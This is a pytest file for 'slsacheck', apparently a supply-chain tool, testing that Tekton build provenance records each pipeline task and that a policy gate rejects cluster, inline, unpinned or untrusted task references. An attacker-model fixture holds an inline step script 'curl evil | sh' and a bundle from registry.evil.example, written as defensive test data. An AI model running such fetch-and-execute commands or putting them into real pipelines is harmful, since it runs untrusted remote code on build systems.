"""The pipeline's tasks: recorded for pipelineRef runs, read by the gate, every one judged.

Runs are exported as `kubectl get -o json` prints them (status.pipelineSpec resolved,
child TaskRuns labelled and listed); the checks run on the statement slsacheck writes, on
the one Tekton Chains would write for the same run (`reproduce_chains`), and on v0.2.
The negative cases are the pipelines an attacker with push access to the pipeline
definition would write: a task from the cluster or inline, running anything.
"""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from slsacheck.models.verdict import Check, Outcome
from slsacheck.policy import checkids as ids
from slsacheck.policy.build import normalise_repo_pattern
from slsacheck.policy.explain import explain_policy
from slsacheck.policy.globs import compile_glob
from slsacheck.policy.load import check_file
from slsacheck.policy.model import ProvenanceRules
from slsacheck.policy.provenance_facts import provenance_facts
from slsacheck.policy.provenance_rules import provenance_checks
from slsacheck.provenance.generate import Options, generate
from slsacheck.provenance.instep import StepContext, generate_in_step
from slsacheck.provenance.runs import parse_run
from slsacheck.provenance.tasks import TASKS_KEY
from slsacheck.provenance.validate import InvalidProvenance, check_statement
from tests.support.keys import write_key_pairs
from tests.support.pipelineref_run import (
    BUNDLE_DIGEST,
    CATALOG,
    PIPELINE_TASKS,
    REF_SOURCES,
    RUN_NAME,
    TASKS_COMMIT,
    RunFacts,
    with_task,
)

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
IMAGE_DIGEST = "sha256:" + "d" * 64
SCAN_COMMIT = TASKS_COMMIT
TRUSTED = ("oci://registry.example.com/tekton/**", "https://git.example.com/tekton/*")


def facts(tasks: tuple[dict[str, Any], ...] = PIPELINE_TASKS) -> RunFacts:
    return RunFacts("registry.example.com/team/app", IMAGE_DIGEST, NOW - timedelta(hours=1), tasks=tasks)


def pipeline_run(tasks: tuple[dict[str, Any], ...] = PIPELINE_TASKS) -> dict[str, Any]:
    return facts(tasks).pipeline_run()


def task_run(task: dict[str, Any]) -> dict[str, Any]:
    return facts().task_run(task)


def statement(
    tasks: tuple[dict[str, Any], ...] = PIPELINE_TASKS, *, give: list[str] | None = None, **options: Any
) -> Any:
    run = facts(tasks)
    children = [parse_run(run.task_run(t), "child") for t in tasks if give is None or t["name"] in give]
    return generate(parse_run(run.pipeline_run(), "run"), children, Options(**options)).statement.to_dict()


def rules(*, required: tuple[str, ...] = (), allow_inline: bool = False, allow_cluster: bool = False) -> Any:
    return ProvenanceRules(
        tasks_required=required,
        tasks_trusted_refs=tuple(compile_glob(normalise_repo_pattern(p)) for p in TRUSTED),
        tasks_allow_inline=allow_inline,
        tasks_allow_cluster=allow_cluster,
    )


def checks(doc: dict[str, Any], **kwargs: Any) -> dict[str, Check]:
    out = provenance_checks(rules(**kwargs), provenance_facts(doc), now=NOW)
    return {c.id: c for c in out}


REQUIRED = ("git-clone", "trivy-scan", "build-push", "clone", "scan", "build")


def test_pipelineref_tasks_are_recorded_in_internal_parameters() -> None:
    doc = statement()
    recorded = doc["predicate"]["buildDefinition"]["internalParameters"][TASKS_KEY]
    assert [(t["name"], t.get("task"), t["taskRun"], t["status"], t["ref"]["kind"]) for t in recorded] == [
        ("clone", "git-clone", f"{RUN_NAME}-clone", "succeeded", "bundle"),
        ("scan", None, f"{RUN_NAME}-scan", "succeeded", "resolver"),
        ("build", "build-push", f"{RUN_NAME}-build", "succeeded", "bundle"),
    ]
    assert recorded[1]["ref"] == {"kind": "resolver", "resolver": "git", "uri": REF_SOURCES["scan"]["uri"],
                                  "digest": {"sha1": SCAN_COMMIT}, "entryPoint": "trivy-scan/trivy-scan.yaml"}
    assert recorded[0]["ref"]["digest"] == {"sha256": BUNDLE_DIGEST[7:]}


def test_the_gate_reads_them_and_both_task_checks_pass() -> None:
    found = checks(statement(), required=("git-clone", "scan", "build-push"))
    assert found[ids.PROVENANCE_TASKS].outcome is Outcome.PASS, found[ids.PROVENANCE_TASKS]
    assert found[ids.PROVENANCE_TASK_REFS].outcome is Outcome.PASS, found[ids.PROVENANCE_TASK_REFS]
    assert "build (build-push): bundle" in (found[ids.PROVENANCE_TASK_REFS].found or "")


def test_v02_carries_the_same_tasks() -> None:
    doc = statement(format="slsa-v0.2")
    found = checks(doc, required=("git-clone", "scan", "build-push"))
    assert found[ids.PROVENANCE_TASKS].outcome is Outcome.PASS, found[ids.PROVENANCE_TASKS]
    assert found[ids.PROVENANCE_TASK_REFS].outcome is Outcome.PASS, found[ids.PROVENANCE_TASK_REFS]


CLUSTER = with_task(PIPELINE_TASKS, "build", taskRef={"name": "build-push"})
CLUSTER_RESOLVER = with_task(PIPELINE_TASKS, "build", taskRef={"resolver": "cluster", "params": [
    {"name": "name", "value": "build-push"}, {"name": "namespace", "value": "ci"}, {"name": "kind", "value": "task"}]})
INLINE = with_task(PIPELINE_TASKS, "build",
                   taskSpec={"steps": [{"name": "build", "image": "alpine", "script": "curl evil | sh"}]})
UNPINNED = with_task(PIPELINE_TASKS, "build", taskRef={"resolver": "git", "params": [
    {"name": "url", "value": "https://git.example.com/tekton/tasks.git"}, {"name": "revision", "value": "main"}]})
UNTRUSTED = with_task(PIPELINE_TASKS, "build", taskRef={"resolver": "bundles", "params": [
    {"name": "bundle", "value": f"registry.evil.example/tasks/build-push@{BUNDLE_DIGEST}"},
    {"name": "name", "value": "build-push"}]})


@pytest.mark.parametrize(
    ("tasks", "kind", "why"),
    [
        (CLUSTER, "cluster", "a Task of the cluster (taskRef by name): not pinned"),
        (CLUSTER_RESOLVER, "cluster", "a Task of the cluster (taskRef by name): not pinned"),
        (INLINE, "inline", "defined inline (taskSpec): no reference to trust"),
    ],
    ids=["taskRef-by-name", "cluster-resolver", "inline-taskSpec"],
)
@pytest.mark.parametrize("fmt", ["slsa-v1", "slsa-v0.2"])
def test_a_task_without_a_pinned_trusted_reference_fails_naming_it(
    tasks: tuple[dict[str, Any], ...], kind: str, why: str, fmt: str
) -> None:
    doc = statement(tasks, format=fmt)
    check = checks(doc)[ids.PROVENANCE_TASK_REFS]
    assert check.outcome is Outcome.FAIL
    assert "task build" in (check.found or "") and why in (check.found or "")
    allowed = checks(doc, allow_inline=kind == "inline", allow_cluster=kind == "cluster")
    assert allowed[ids.PROVENANCE_TASK_REFS].outcome is Outcome.PASS, allowed[ids.PROVENANCE_TASK_REFS]
    # Allowing the other kind is no way around it.
    other = checks(doc, allow_inline=kind != "inline", allow_cluster=kind != "cluster")
    assert other[ids.PROVENANCE_TASK_REFS].outcome is Outcome.FAIL


@pytest.mark.parametrize(("tasks", "shown"), [
    (UNPINNED, "git+https://git.example.com/tekton/tasks.git@unpinned"),
    (UNTRUSTED, "oci://registry.evil.example/tasks/build-push@sha256:"),
], ids=["git-branch", "foreign-bundle"])
def test_a_remote_task_unpinned_or_untrusted_fails(tasks: tuple[dict[str, Any], ...], shown: str) -> None:
    run = facts(tasks)
    children = [run.task_run(t) for t in tasks]
    children[2]["status"].pop("provenance", None)  # Tekton resolved nothing pinned for it
    doc = generate(parse_run(run.pipeline_run(), "run"), [parse_run(c, "c") for c in children]).statement.to_dict()
    check = checks(doc, allow_inline=True, allow_cluster=True)[ids.PROVENANCE_TASK_REFS]
    assert check.outcome is Outcome.FAIL and shown in (check.found or ""), check.found


def test_chains_provenance_of_a_pipelineref_run_says_what_it_cannot_decide() -> None:
    doc = statement(reproduce_chains=True)
    assert TASKS_KEY not in doc["predicate"]["buildDefinition"]["internalParameters"]
    found = checks(doc, required=("build-push",))
    required = found[ids.PROVENANCE_TASKS]
    assert required.outcome is Outcome.FAIL
    assert "pipelineRef" in (required.found or "") and "Tekton Chains' format" in (required.found or "")
    assert "slsacheck provenance generate --run" in (required.hint or "")
    refs = found[ids.PROVENANCE_TASK_REFS]
    assert refs.outcome is Outcome.FAIL
    assert "not every task can be accounted for" in (refs.found or "")
    assert f"oci://{CATALOG}/git-clone@{BUNDLE_DIGEST}" in (refs.found or "")  # what it did record


def test_chains_provenance_with_an_inline_pipeline_spec_judges_every_task() -> None:
    doc = statement(CLUSTER, reproduce_chains=True)
    spec = pipeline_run(CLUSTER)["status"]["pipelineSpec"]
    doc["predicate"]["buildDefinition"]["externalParameters"]["runSpec"] = {"pipelineSpec": spec}
    found = checks(doc, required=("git-clone", "build-push"))
    assert found[ids.PROVENANCE_TASKS].outcome is Outcome.PASS
    refs = found[ids.PROVENANCE_TASK_REFS]
    assert refs.outcome is Outcome.FAIL and "task build (build-push): a Task of the cluster" in (refs.found or "")


def test_a_chains_taskrun_provenance_from_a_cluster_task_fails_unless_allowed() -> None:
    doc = task_run({"name": "build", "taskRef": {"name": "build-push"}})
    doc["metadata"]["labels"] = {}
    got = generate(parse_run(doc, "tr"), options=Options(reproduce_chains=True)).statement.to_dict()
    assert checks(got)[ids.PROVENANCE_TASK_REFS].outcome is Outcome.FAIL
    assert checks(got, allow_cluster=True)[ids.PROVENANCE_TASK_REFS].outcome is Outcome.PASS


def test_a_task_whose_taskrun_was_not_given_is_not_counted_as_run() -> None:
    doc = statement(give=["clone", "build"])
    recorded = doc["predicate"]["buildDefinition"]["internalParameters"][TASKS_KEY]
    assert [t["status"] for t in recorded] == ["succeeded", "not-given", "succeeded"]
    check = checks(doc, required=("scan",))[ids.PROVENANCE_TASKS]
    assert check.outcome is Outcome.FAIL
    assert "scan (listed, but its TaskRun was not given or it did not run)" in (check.found or "")


def test_in_step_provenance_says_it_knows_only_its_task() -> None:
    context = StepContext(task_run_name="attest-1", task_name="slsacheck-attest-provenance")
    results = [("IMAGE_URL", "registry.example.com/team/app"), ("IMAGE_DIGEST", IMAGE_DIGEST)]
    doc = generate_in_step(context, (), results).statement.to_dict()
    found = checks(doc, required=("build-push",))
    assert "in-step provenance knows only the Task that made it" in (found[ids.PROVENANCE_TASKS].found or "")
    assert found[ids.PROVENANCE_TASK_REFS].outcome is Outcome.FAIL


POLICY = """\
apiVersion: slsacheck.dev/v1alpha1
kind: ImagePolicy
metadata:
  name: tasks
spec:
  images:
    include: ["**"]
  authorities:
    - name: k
      key:
        file: k.pub
  attestations:
    - name: provenance
      predicateType: slsaprovenance1
      authorities: [k]
      provenance:
        tasks:
{tasks}
"""


def _policy(tmp_path: Path, tasks: str) -> tuple[list[Any], list[Any]]:
    write_key_pairs(tmp_path, "k")
    path = tmp_path / "policy.yaml"
    path.write_text(POLICY.format(tasks=tasks))
    return check_file(path)


def test_the_policy_file_spells_the_allowances(tmp_path: Path) -> None:
    policies, problems = _policy(tmp_path, '          trustedRefs: ["oci://r.example/**"]\n'
                                           "          allowInline: true\n          allowCluster: false")
    assert problems == []
    prov = policies[0].attestations[0].provenance
    assert prov.tasks_allow_inline is True and prov.tasks_allow_cluster is False
    explained = explain_policy(policies[0])
    assert "inline tasks are accepted unpinned" in explained


def test_an_allowance_without_trusted_refs_is_refused(tmp_path: Path) -> None:
    policies, problems = _policy(tmp_path, "          required: [build]\n          allowCluster: true")
    assert policies == []
    assert [p.message for p in problems] == ["tasks.allowCluster without tasks.trustedRefs has nothing to relax"]


def test_a_skipped_task_is_not_judged_but_one_not_given_is() -> None:
    tasks = with_task(PIPELINE_TASKS, "scan", taskSpec={"steps": [{"name": "scan", "image": "alpine"}]})
    run = facts(tasks)
    doc = run.pipeline_run()
    doc["status"]["skippedTasks"] = [{"name": "scan", "reason": "When Expressions evaluated to false"}]
    doc["status"]["childReferences"] = [c for c in doc["status"]["childReferences"] if c["pipelineTaskName"] != "scan"]
    children = [parse_run(run.task_run(t), "child") for t in tasks if t["name"] != "scan"]
    skipped = generate(parse_run(doc, "run"), children).statement.to_dict()
    assert [t["status"] for t in skipped["predicate"]["buildDefinition"]["internalParameters"][TASKS_KEY]] == [
        "succeeded", "skipped", "succeeded"]
    assert checks(skipped)[ids.PROVENANCE_TASK_REFS].outcome is Outcome.PASS
    # Listed but not given: it may have run anything, so it is judged from the pipeline's spec.
    not_given = statement(tasks, give=["clone", "build"])
    check = checks(not_given)[ids.PROVENANCE_TASK_REFS]
    assert check.outcome is Outcome.FAIL and "task scan: defined inline" in (check.found or "")


def test_the_schema_describes_the_task_list() -> None:
    doc = statement()
    check_statement(doc)
    doc["predicate"]["buildDefinition"]["internalParameters"][TASKS_KEY][0]["ref"]["kind"] = "trust-me"
    with pytest.raises(InvalidProvenance, match="trust-me"):
        check_statement(doc)


def test_a_v02_taskrun_provenance_is_accounted_for_by_its_config_source() -> None:
    build = PIPELINE_TASKS[2]
    doc = facts().task_run(build)
    remote = generate(parse_run(doc, "tr"), options=Options(format="slsa-v0.2")).statement.to_dict()
    assert remote["predicate"]["invocation"]["configSource"]["uri"] == REF_SOURCES["build"]["uri"]
    assert checks(remote)[ids.PROVENANCE_TASK_REFS].outcome is Outcome.PASS
    del doc["status"]["provenance"]  # from the cluster: nothing says where it came from
    local = generate(parse_run(doc, "tr"), options=Options(format="slsa-v0.2")).statement.to_dict()
    check = checks(local)[ids.PROVENANCE_TASK_REFS]
    assert check.outcome is Outcome.FAIL and "does not say where its definition came from" in (check.found or "")


def test_a_hub_task_is_judged_by_the_uri_tekton_resolved() -> None:
    hub = {"resolver": "hub", "params": [{"name": "name", "value": "build-push"}, {"name": "version", "value": "0.7"}]}
    tasks = with_task(PIPELINE_TASKS, "build", taskRef=hub)
    run = facts(tasks)
    children = [run.task_run(t) for t in tasks]
    source = {"uri": "https://artifacthub.io/api/v1/packages/tekton-task/tekton-catalog-tasks/build-push/0.7",
              "digest": {"sha256": "8e" * 32}, "entryPoint": "build-push"}
    children[2]["status"]["provenance"] = {"refSource": source}
    doc = generate(parse_run(run.pipeline_run(), "run"), [parse_run(c, "c") for c in children]).statement.to_dict()
    assert checks(doc)[ids.PROVENANCE_TASK_REFS].outcome is Outcome.FAIL
    trusting = ProvenanceRules(tasks_trusted_refs=tuple(
        compile_glob(normalise_repo_pattern(p)) for p in (*TRUSTED, "https://artifacthub.io/api/v1/packages/**")))
    check = {c.id: c for c in provenance_checks(trusting, provenance_facts(doc), now=NOW)}[ids.PROVENANCE_TASK_REFS]
    assert check.outcome is Outcome.PASS, check


def test_an_inline_pipeline_spec_is_read_and_an_empty_task_list_hides_nothing() -> None:
    run = facts(CLUSTER)
    doc = run.pipeline_run()
    doc["spec"] = {"pipelineSpec": doc["status"].pop("pipelineSpec")}  # the run's own spec only
    children = [parse_run(run.task_run(t), "c") for t in CLUSTER]
    generated = generate(parse_run(doc, "run"), children)
    assert not [w for w in generated.warnings if w.code == "child.unmatched"]
    statement_ = generated.statement.to_dict()
    assert [t["name"] for t in statement_["predicate"]["buildDefinition"]["internalParameters"][TASKS_KEY]] == [
        "clone", "scan", "build"]
    assert checks(statement_)[ids.PROVENANCE_TASK_REFS].outcome is Outcome.FAIL
    # A signed statement whose task list is empty: the inline spec is still judged.
    statement_["predicate"]["buildDefinition"]["internalParameters"][TASKS_KEY] = []
    check = checks(statement_)[ids.PROVENANCE_TASK_REFS]
    assert check.outcome is Outcome.FAIL and "task build (build-push): a Task of the cluster" in (check.found or "")
